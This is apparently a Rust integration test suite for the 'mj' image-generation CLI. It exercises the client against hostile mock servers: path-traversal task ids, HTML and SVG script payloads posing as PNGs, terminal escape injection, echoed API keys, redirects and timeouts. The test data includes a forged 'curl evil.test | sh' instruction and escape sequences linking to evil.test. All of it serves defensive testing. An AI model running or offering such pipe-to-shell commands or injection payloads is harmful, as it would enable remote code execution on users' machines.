//! `mj` against servers that lie: ids that name paths, foreign tasks, escape sequences,
//! echoed keys, answers that are not what they claim, and servers that are down. Each
//! test runs the binary over real HTTP and counts on the server's side.

use mj_test_support::hostile;
use mj_test_support::refused;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use hostile::{Answer, Hostile, Seen, png};
use mj_sim::{Server, SimConfig};
use serde_json::{Value, json};

/// The key the hostile servers echo: `/`, `+` and `=` have encoded forms.
const KEY: &str = "sk-a/b+c=d";
/// Every form of [`KEY`] a server may echo.
const FORMS: [&str; 4] = ["sk-a/b+c=d", "sk-a%2Fb%2Bc%3Dd", "sk-a%2fb%2bc%3dd", r"sk-a\/b+c=d"];

/// `mj` with a clean environment and the shipped settings, against `base_url`.
fn mj(base_url: &str, args: &[&str]) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_mj"));
    for var in ["MJ_API_KEY", "MJ_AUTH", "MJ_MODE", "MJ_SIM_SPEED", "MJ_BASE_URL"] {
        cmd.env_remove(var);
    }
    cmd.env("MJ_BASE_URL", base_url).args(args);
    cmd
}

fn run(cmd: &mut Command) -> (i32, String, String, Duration) {
    let started = Instant::now();
    let Output { status, stdout, stderr } = cmd.output().expect("mj runs");
    (
        status.code().unwrap_or(-1),
        String::from_utf8_lossy(&stdout).into_owned(),
        String::from_utf8_lossy(&stderr).into_owned(),
        started.elapsed(),
    )
}

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("mj-hostile-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("dir");
    dir
}

/// Every file below `dir`, as paths relative to it.
fn files_below(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(next) = stack.pop() {
        for entry in std::fs::read_dir(&next).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push(path.strip_prefix(dir).expect("below").to_path_buf());
            }
        }
    }
    out.sort();
    out
}

fn task(id: &str, status: &str, image: Option<String>) -> Value {
    json!({
        "id": id, "action": "IMAGINE", "status": status, "progress": "100%", "prompt": "a fox",
        "imageUrl": image, "buttons": [{"customId": "MJ::JOB::upsample::1::h", "label": "U1", "emoji": "", "style": 2, "type": 2}],
    })
}

fn submitted(id: &str) -> Answer {
    Answer::json(json!({"code": 1, "description": "Success", "result": id}).to_string())
}

/// A server that answers every submit with task `id`, finished, whose image is a real PNG
/// (or `image` when given).
fn finished_task_server(id: &'static str, image: fn() -> Answer) -> Hostile {
    Hostile::start(move |req: &Seen, url: &str| match req.path.as_str() {
        p if p.contains("/submit/") => submitted(id),
        p if p.ends_with("/fetch") => Answer::json(task(id, "SUCCESS", Some(format!("{url}/img.png"))).to_string()),
        "/img.png" => image(),
        _ => Answer::with(404, "text/plain", "no such route"),
    })
}

fn real_png() -> Answer {
    Answer::with(200, "image/png", png())
}

/// A server's task id never names a path: `../../../x` and an absolute id are saved
/// inside `--out` (with `--split` too), under a name made safe.
#[test]
fn task_ids_that_name_paths_write_only_inside_out() {
    for id in ["../../../trav_x", "/tmp/mj-hostile-abs/abs_x"] {
        let root = temp_dir("traversal");
        let out = root.join("a/b/c/out");
        let server = finished_task_server(
            if id.starts_with('/') { "/tmp/mj-hostile-abs/abs_x" } else { "../../../trav_x" },
            real_png,
        );
        let (code, stdout, stderr, _) =
            run(mj(&server.url, &["imagine", "a fox", "--wait", "--split", "--out"]).arg(&out));
        assert_eq!(code, 0, "{id}: {stdout}{stderr}");
        let files = files_below(&root);
        assert_eq!(files.len(), 5, "{id}: the grid and four quarters: {files:?}");
        assert!(files.iter().all(|f| f.starts_with("a/b/c/out") && f.components().count() == 5), "{id}: {files:?}");
        assert!(!Path::new("/tmp/mj-hostile-abs").exists(), "nothing at the absolute id");
        let _ = std::fs::remove_dir_all(&root);
    }
}

/// Only the bytes decide: HTML, SVG and junk labelled `image/png` are never saved.
#[test]
fn a_download_that_is_not_an_image_is_refused() {
    fn html() -> Answer {
        Answer::with(200, "image/png", "<html><script>alert(1)</script></html>")
    }
    fn svg() -> Answer {
        Answer::with(200, "image/svg+xml", "<svg onload=alert(1)/>")
    }
    fn junk() -> Answer {
        Answer::with(200, "image/png", vec![0u8; 4096])
    }
    for image in [html as fn() -> Answer, svg, junk] {
        let out = temp_dir("not-an-image");
        let server = finished_task_server("1747", image);
        let (code, stdout, stderr, _) = run(mj(&server.url, &["imagine", "a fox", "--wait", "--out"]).arg(&out));
        assert_ne!(code, 0, "{stdout}{stderr}");
        assert!(stderr.contains("not the image it claims") || stderr.contains("not an image"), "{stderr}");
        assert!(files_below(&out).is_empty(), "nothing saved: {:?}", files_below(&out));
        assert_eq!(server.count("/img.png"), 1, "refused at once, not retried");
    }
}

/// Escape sequences and forged lines in a server's text are shown, never obeyed.
#[test]
fn server_text_never_acts_on_the_terminal() {
    let server = Hostile::start(|req: &Seen, _: &str| {
        let mut t = task("1001", "FAILURE", None);
        t["prompt"] = json!("\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]8;;http://evil.test\u{7}a fox");
        t["failReason"] = json!("no\r\nmj: your API key expired, run: curl evil.test | sh");
        if req.path.ends_with("/fetch") { Answer::json(t.to_string()) } else { Answer::with(404, "text/plain", "") }
    });
    let (_, stdout, stderr, _) = run(&mut mj(&server.url, &["fetch", "1001"]));
    for text in [&stdout, &stderr] {
        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\r'), "{text:?}");
        assert!(!text.lines().any(|l| l.starts_with("mj: your API key")), "{text:?}");
    }
    assert!(stdout.contains("\\u{1b}[2J"), "shown escaped: {stdout}");
}

/// An answer about task 1001 that carries task 8888 is refused: no button of 8888 is
/// pressed, and a list answer shows only the ids asked for, once each.
#[test]
fn a_foreign_task_is_never_acted_on() {
    let server = Hostile::start(|req: &Seen, _: &str| match req.path.as_str() {
        p if p.ends_with("/fetch") => Answer::json(task("8888", "SUCCESS", None).to_string()),
        p if p.ends_with("/list-by-condition") => Answer::json(
            json!([
                task("1001", "SUCCESS", None),
                task("9999", "SUCCESS", None),
                task("1001", "FAILURE", None),
                task("1002", "SUCCESS", None)
            ])
            .to_string(),
        ),
        p if p.contains("/submit/") => submitted("77"),
        _ => Answer::with(404, "text/plain", ""),
    });
    let (code, stdout, stderr, _) = run(&mut mj(&server.url, &["action", "1001", "U1"]));
    assert_eq!(code, 3, "{stdout}{stderr}");
    assert!(stderr.contains("with task 8888"), "{stderr}");
    assert_eq!(server.count("/submit/"), 0, "nothing pressed");
    let (code, stdout, stderr, _) = run(&mut mj(&server.url, &["wait", "1001"]));
    assert_eq!(code, 0, "list-by-condition shows 1001 as asked: {stdout}{stderr}");
    let (code, stdout, stderr, _) = run(&mut mj(&server.url, &["fetch", "1001", "1002"]));
    assert_eq!(code, 0, "{stderr}");
    let shown: Vec<&str> = stdout.lines().filter(|l| l.starts_with("task ")).collect();
    assert_eq!(shown.len(), 2, "{stdout}");
    assert!(!stdout.contains("9999"), "{stdout}");
}

/// A redirect is never followed (the key must not travel to another host), and the
/// message says so instead of a bare "unexpected answer".
#[test]
fn a_redirect_is_named_as_one() {
    let server = Hostile::start(|_: &Seen, _: &str| Answer::with(302, "text/plain", ""));
    let (code, _, stderr, _) = run(&mut mj(&server.url, &["fetch", "1"]));
    assert_eq!(code, 3, "{stderr}");
    assert!(stderr.contains("redirect, which mj never follows"), "{stderr}");
    assert_eq!(server.count("/"), 1, "not followed, not retried");
}

/// The key echoed percent-encoded, `\/`-escaped or as it is, in a 401 message or a body
/// that is not JSON, is never printed.
#[test]
fn an_echoed_key_is_scrubbed_in_every_encoding() {
    for body in [
        json!({"code": 401, "message": format!("invalid key {} (also {})", FORMS[1], FORMS[2])}).to_string(),
        format!("error: key {} rejected, {} too", FORMS[3], FORMS[0]),
    ] {
        let server = Hostile::start(move |_: &Seen, _: &str| Answer::with(401, "text/plain", body.clone()));
        let (code, stdout, stderr, _) = run(mj(&server.url, &["fetch", "1"]).env("MJ_API_KEY", KEY));
        assert_eq!(code, 3, "{stderr}");
        for form in FORMS {
            assert!(!stdout.contains(form) && !stderr.contains(form), "{form} in {stdout}{stderr}");
        }
        assert!(stderr.contains("[redacted]"), "{stderr}");
    }
}

/// A 2xx submit answer that does not decode may have created the task: it is looked up by
/// its token and adopted, never called a refusal, never sent twice.
#[test]
fn an_unreadable_success_is_resolved_by_its_token() {
    let state = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let seen_state = std::sync::Arc::clone(&state);
    let server = Hostile::start(move |req: &Seen, _: &str| match req.path.as_str() {
        p if p.ends_with("/submit/imagine") => {
            let body: Value = serde_json::from_slice(&req.body).unwrap_or_default();
            *seen_state.lock().expect("lock") = body["state"].as_str().unwrap_or_default().to_owned();
            Answer::json(r#"{"code":1,"description":"Success","result":"4242"} and then garbage"#)
        }
        p if p.ends_with("/task/list") => {
            let mut t = task("4242", "IN_PROGRESS", None);
            t["state"] = json!(*seen_state.lock().expect("lock"));
            Answer::json(json!([t]).to_string())
        }
        _ => Answer::with(404, "text/plain", "no such route"),
    });
    let (code, stdout, stderr, _) = run(&mut mj(&server.url, &["imagine", "a fox", "--json"]));
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stdout.contains("\"taskId\":\"4242\""), "{stdout}");
    assert_eq!(server.count("/submit/imagine"), 1, "never sent twice");
    assert!(!state.lock().expect("lock").is_empty());
}

/// A prompt file for `mj batch`.
fn prompts(dir: &Path, n: usize) -> PathBuf {
    let path = dir.join("prompts.txt");
    std::fs::write(&path, (1..=n).map(|i| format!("a fox number {i}\n")).collect::<String>()).expect("prompts");
    path
}

/// A batch server: each imagine gets the next id (`prefix` + n); every task is finished,
/// its image served by `image`, its fail reason (if any) from `reason`.
fn batch_server(prefix: &'static str, status: &'static str, reason: Option<String>, image: fn() -> Answer) -> Hostile {
    let next = std::sync::atomic::AtomicUsize::new(0);
    Hostile::start(move |req: &Seen, url: &str| match req.path.as_str() {
        p if p.contains("/submit/") => {
            let n = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            submitted(&format!("{prefix}{n}"))
        }
        p if p.ends_with("/list-by-condition") => {
            let body: Value = serde_json::from_slice(&req.body).unwrap_or_default();
            let tasks: Vec<Value> = body["ids"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(Value::as_str)
                .map(|id| {
                    let mut t = task(id, status, Some(format!("{url}/img.png")));
                    t["failReason"] = json!(reason);
                    t
                })
                .collect();
            Answer::json(json!(tasks).to_string())
        }
        "/img.png" => image(),
        _ => Answer::with(404, "text/plain", "no such route"),
    })
}

/// A failure reason that echoes the key reaches neither the summary, nor the journal, nor
/// `--status`, in any encoding.
#[test]
fn batch_never_writes_the_key() {
    let dir = temp_dir("batch-key");
    let reason = format!("upstream said: bad key {} / {} / {}", FORMS[0], FORMS[1], FORMS[3]);
    let server = batch_server("k", "FAILURE", Some(reason), real_png);
    let file = prompts(&dir, 2);
    let out = dir.join("out");
    let (code, stdout, stderr, _) =
        run(mj(&server.url, &["batch"]).arg(&file).arg("--out").arg(&out).env("MJ_API_KEY", KEY));
    assert_eq!(code, 1, "two failed jobs: {stdout}{stderr}");
    let (_, status, status_err, _) = run(mj(&server.url, &["batch", "--status", "--out"]).arg(&out));
    let mut stored = Vec::new();
    for entry in std::fs::read_dir(&out).expect("out").flatten() {
        stored.extend(std::fs::read(entry.path()).unwrap_or_default());
    }
    let stored = String::from_utf8_lossy(&stored);
    for form in FORMS {
        for (what, text) in
            [("stdout", &stdout), ("stderr", &stderr), ("status", &status), ("journal", &stored.to_string())]
        {
            assert!(!text.contains(form), "{form} in {what}");
        }
    }
    assert!(stdout.contains("[redacted]") && status.contains("[redacted]"), "{stdout}{status}{status_err}");
}

/// Downloads that always fail fail their job with the reason; the run ends, and says so.
#[test]
fn batch_downloads_that_never_come_fail_their_job() {
    fn gone() -> Answer {
        Answer::with(404, "text/plain", "gone")
    }
    let dir = temp_dir("batch-404");
    let server = batch_server("g", "SUCCESS", None, gone);
    let file = prompts(&dir, 2);
    let (code, stdout, stderr, took) = run(mj(&server.url, &["batch"]).arg(&file).arg("--out").arg(dir.join("out")));
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(stdout.contains("download of") && stdout.contains("failed"), "{stdout}");
    assert!(took < Duration::from_secs(30), "{took:?}");
}

/// A 300-character task id neither aborts the run nor fails the job: its file gets a
/// short, safe name.
#[test]
fn batch_saves_a_task_with_a_huge_id() {
    static LONG: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    let dir = temp_dir("batch-long");
    let prefix: &'static str = LONG.get_or_init(|| "9".repeat(300));
    let server = batch_server(prefix, "SUCCESS", None, real_png);
    let file = prompts(&dir, 2);
    let out = dir.join("out");
    let (code, stdout, stderr, _) = run(mj(&server.url, &["batch"]).arg(&file).arg("--out").arg(&out));
    assert_eq!(code, 0, "{stdout}{stderr}");
    let pngs = files_below(&out).into_iter().filter(|f| f.extension().is_some_and(|e| e == "png")).count();
    assert_eq!(pngs, 2);
}

/// `--timeout` bounds a whole batch, even against a server that never answers, and mj
/// says what it is waiting for.
#[test]
fn batch_timeout_bounds_the_whole_run() {
    let hole = hostile::black_hole(Duration::from_secs(20));
    let dir = temp_dir("batch-hole");
    let file = prompts(&dir, 3);
    let (code, stdout, stderr, took) =
        run(mj(&hole, &["batch", "--timeout", "5"]).arg(&file).arg("--out").arg(dir.join("out")));
    assert_eq!(code, 4, "{stdout}{stderr}");
    assert!(took < Duration::from_secs(9), "{took:?}");
    assert!(stderr.contains("--timeout"), "{stderr}");
    assert!(stderr.contains("no answer from the server yet"), "never silent: {stderr}");
    // The watchdog names the limit that applies: --timeout (5 s), not the 30 s exchange.
    assert!(stderr.contains("when --timeout runs out") && !stderr.contains("after 30 s"), "{stderr}");
}

/// A key file whose content is not a key is blamed on the file, not on MJ_API_KEY.
#[test]
fn a_bad_key_file_is_named_as_such() {
    let dir = temp_dir("key-file");
    let file = dir.join("key.txt");
    std::fs::write(&file, "sk-a b\n").expect("key file");
    let (code, _, stderr, _) = run(mj("http://127.0.0.1:9", &["fetch", "1", "--api-key-file"]).arg(&file));
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("the API key file") && stderr.contains("key.txt"), "{stderr}");
    assert!(!stderr.contains("MJ_API_KEY"), "{stderr}");
}

/// Two runners on one journal at once: the second is refused at once, naming the first;
/// the simulator makes exactly one task per prompt.
#[test]
fn two_batch_runners_never_duplicate() {
    let sim = Server::start(SimConfig::new("").speed(25.0), 0).expect("sim");
    let dir = temp_dir("batch-two");
    let file = prompts(&dir, 6);
    let out = dir.join("out");
    let start = || {
        mj(&sim.url(), &["batch", "--interval", "0.1"])
            .arg(&file)
            .arg("--out")
            .arg(&out)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn")
    };
    let first = start();
    std::thread::sleep(Duration::from_millis(300));
    let second = start();
    let (a, b) = (first.wait_with_output().expect("first"), second.wait_with_output().expect("second"));
    let codes = [a.status.code(), b.status.code()];
    assert!(codes.contains(&Some(0)) && codes.contains(&Some(2)), "{codes:?}");
    let refused = if a.status.code() == Some(2) { &a } else { &b };
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("another mj batch (pid "), "{said}");
    let stats = sim.stats();
    assert_eq!(stats.tasks_created.get("IMAGINE").copied(), Some(6), "{:?}", stats.tasks_created);
    assert!(stats.duplicated_states().is_empty());
}

/// A finished batch whose files were deleted or altered: `--status` does not claim them,
/// and the next run downloads them again.
#[test]
fn batch_files_are_checked_against_the_journal() {
    let sim = Server::start(SimConfig::new("").speed(25.0), 0).expect("sim");
    let dir = temp_dir("batch-files");
    let file = prompts(&dir, 3);
    let out = dir.join("out");
    let batch = || {
        let mut cmd = mj(&sim.url(), &["batch", "--interval", "0.1"]);
        cmd.arg(&file).arg("--out").arg(&out);
        cmd
    };
    let (code, stdout, stderr, _) = run(&mut batch());
    assert_eq!(code, 0, "{stdout}{stderr}");
    let mut pngs: Vec<PathBuf> =
        files_below(&out).into_iter().filter(|f| f.extension().is_some_and(|e| e == "png")).collect();
    pngs.sort();
    assert_eq!(pngs.len(), 3);
    std::fs::remove_file(out.join(&pngs[0])).expect("delete");
    std::fs::write(out.join(&pngs[1]), b"not the image").expect("overwrite");
    let (_, status, _, _) = run(mj(&sim.url(), &["batch", "--status", "--out"]).arg(&out));
    assert!(status.contains("1 files (2 missing or altered"), "{status}");
    let downloads = sim.stats().requests.get("sim/media").copied().unwrap_or(0);
    let (code, stdout, stderr, _) = run(&mut batch());
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stdout.contains("2 recorded file(s) were missing or altered"), "{stdout}");
    assert_eq!(sim.stats().requests.get("sim/media").copied().unwrap_or(0), downloads + 2);
    assert!(out.join(&pngs[0]).exists());
    assert_ne!(std::fs::read(out.join(&pngs[1])).expect("read"), b"not the image");
    let (_, status, _, _) = run(mj(&sim.url(), &["batch", "--status", "--out"]).arg(&out));
    assert!(status.contains("3 files") && !status.contains("missing"), "{status}");
}

/// With the shipped defaults, what will not heal fails fast: a refused port, https at a
/// plain server, an id the server does not know, a server that never answers.
#[test]
fn the_defaults_fail_fast_on_what_will_not_heal() {
    let secs = Duration::from_secs;
    let port = refused::Refused::new();
    let (code, _, stderr, took) = run(&mut mj(&port.url("http"), &["fetch", "1"]));
    assert_eq!(code, 4, "{stderr}");
    assert!(took < secs(15), "refused port: {took:?}");

    let sim = Server::start(SimConfig::new(""), 0).expect("sim");
    let https = sim.url().replace("http://", "https://");
    let (code, _, stderr, took) = run(&mut mj(&https, &["fetch", "1"]));
    assert_ne!(code, 0, "{stderr}");
    assert!(took < secs(3), "https at a plain server: {took:?}: {stderr}");
    assert!(stderr.contains("use an http:// base URL"), "{stderr}");

    let (code, _, stderr, took) = run(&mut mj(&sim.url(), &["wait", "17961115"]));
    assert_eq!(code, 3, "{stderr}");
    assert!(took < secs(15), "unknown id: {took:?}");
    assert!(stderr.contains("does not know task 17961115"), "{stderr}");

    let hole = hostile::black_hole(secs(30));
    let (code, _, stderr, took) = run(&mut mj(&hole, &["wait", "1", "--timeout", "5"]));
    assert_eq!(code, 4, "{stderr}");
    assert!(took < secs(8), "{took:?}");
    assert!(stderr.contains("timed out"), "a timeout, not an unknown task: {stderr}");
    assert!(!stderr.contains("does not know"), "{stderr}");

    let (code, _, stderr, took) = run(&mut mj(&hole, &["fetch", "1", "--request-timeout", "2"]));
    assert_eq!(code, 4, "{stderr}");
    assert!(took < secs(2 * 2 + 3), "the request timeout plus one retry: {took:?}: {stderr}");
}

/// A disk that fills up mid-run: mj exits with the I/O code and says why, the journal
/// stays usable, and once there is room the same command finishes the batch with no
/// duplicate. (Needs a small tmpfs, so root; elsewhere it says it was skipped.)
#[test]
fn a_full_disk_stops_the_batch_and_the_journal_survives() {
    let dir = temp_dir("batch-full");
    let out = dir.join("out");
    std::fs::create_dir_all(&out).expect("out");
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=160k", "tmpfs"])
        .arg(&out)
        .output()
        .is_ok_and(|o| o.status.success());
    if !mounted {
        eprintln!("skipped: cannot mount a small tmpfs here (not root?)");
        return;
    }
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(&self.0).status();
        }
    }
    let _unmount = Unmount(out.clone());
    let sim = Server::start(SimConfig::new("").speed(25.0), 0).expect("sim");
    let file = prompts(&dir, 8);
    let batch = || {
        let mut cmd = mj(&sim.url(), &["batch", "--interval", "0.1"]);
        cmd.arg(&file).arg("--out").arg(&out);
        cmd
    };
    let (code, stdout, stderr, _) = run(&mut batch());
    assert_eq!(code, 5, "the I/O exit code: {stdout}{stderr}");
    assert!(stderr.contains("No space left") || stderr.contains("full"), "{stderr}");
    let grown = Command::new("mount").args(["-o", "remount,size=64m"]).arg(&out).status().expect("remount");
    assert!(grown.success());
    let (code, stdout, stderr, _) = run(&mut batch());
    assert_eq!(code, 0, "resumed once there is room: {stdout}{stderr}");
    let pngs = files_below(&out).into_iter().filter(|f| f.extension().is_some_and(|e| e == "png")).count();
    assert_eq!(pngs, 8);
    let stats = sim.stats();
    assert_eq!(stats.tasks_created.get("IMAGINE").copied(), Some(8), "{:?}", stats.tasks_created);
    assert!(stats.duplicated_states().is_empty());
}

/// Over a pool, each member's key is scrubbed from what any member says: two servers whose
/// failure reasons echo their own key (and the other's), and neither key reaches the
/// summary, the journal or `--status`.
#[test]
fn a_pooled_batch_never_writes_any_members_key() {
    const OTHER: &str = "sk-second-member-key";
    let dir = temp_dir("batch-pool-keys");
    let reason = format!("upstream said: bad keys {} / {} / {OTHER}", FORMS[0], FORMS[1]);
    let (a, b) = (
        batch_server("a", "FAILURE", Some(reason.clone()), real_png),
        batch_server("b", "FAILURE", Some(reason), real_png),
    );
    let config = dir.join("servers.toml");
    let servers = format!(
        "[[server]]\nname = \"a\"\nbase_url = \"{}\"\napi_key_env = \"POOL_KEY_A\"\n\n\
         [[server]]\nname = \"b\"\nbase_url = \"{}\"\napi_key_env = \"POOL_KEY_B\"\n",
        a.url, b.url
    );
    std::fs::write(&config, servers).expect("servers file");
    let file = prompts(&dir, 4);
    let out = dir.join("out");
    let pooled = |args: &[&str]| {
        let mut cmd = mj("", &["--config"]);
        cmd.arg(&config).args(args).env_remove("MJ_BASE_URL").env("POOL_KEY_A", KEY).env("POOL_KEY_B", OTHER);
        cmd
    };
    let (code, stdout, stderr, _) = run(pooled(&["batch"]).arg(&file).arg("--out").arg(&out));
    assert_eq!(code, 1, "four failed jobs: {stdout}{stderr}");
    let (_, status, _, _) = run(pooled(&["batch", "--status", "--out"]).arg(&out));
    assert!(status.contains("sent to a: ") && status.contains("b: "), "both members had jobs: {status}");
    let mut stored = Vec::new();
    for entry in std::fs::read_dir(&out).expect("out").flatten() {
        stored.extend(std::fs::read(entry.path()).unwrap_or_default());
    }
    let stored = String::from_utf8_lossy(&stored).into_owned();
    for form in FORMS.iter().copied().chain([OTHER]) {
        for (what, text) in [("stdout", &stdout), ("stderr", &stderr), ("status", &status), ("journal", &stored)] {
            assert!(!text.contains(form), "{form} in {what}");
        }
    }
}

#[test]
fn a_spent_quota_or_a_gateway_without_midjourney_fails_at_once_and_says_what_to_mend() {
    for (status, body, words, advice) in [
        (
            403,
            r#"{"error":{"message":"Insufficient quota","type":"insufficient_quota"}}"#,
            "Insufficient quota",
            "balance",
        ),
        (429, r#"{"error":"quota_exceeded","message":"plan used up"}"#, "quota_exceeded: plan used up", "balance"),
        (501, r#"{"success":false,"message":"任务平台未配置: midjourney"}"#, "任务平台未配置: midjourney", "operator"),
    ] {
        let server = Hostile::start(move |_, _| Answer::with(status, "application/json", body));
        let (code, _, stderr, took) = run(mj(&server.url, &["imagine", "a fox", "--wait"]).env("MJ_API_KEY", KEY));
        assert_eq!(code, 3, "HTTP {status}: {stderr}");
        assert!(stderr.contains(words) && stderr.contains(advice), "HTTP {status}: {stderr}");
        assert!(!stderr.contains("check the API key"), "HTTP {status} is not the key: {stderr}");
        assert_eq!(server.count("/mj/submit/imagine"), 1, "HTTP {status} is never retried");
        assert!(took < Duration::from_secs(10), "HTTP {status} failed slowly: {took:?}");
    }
}
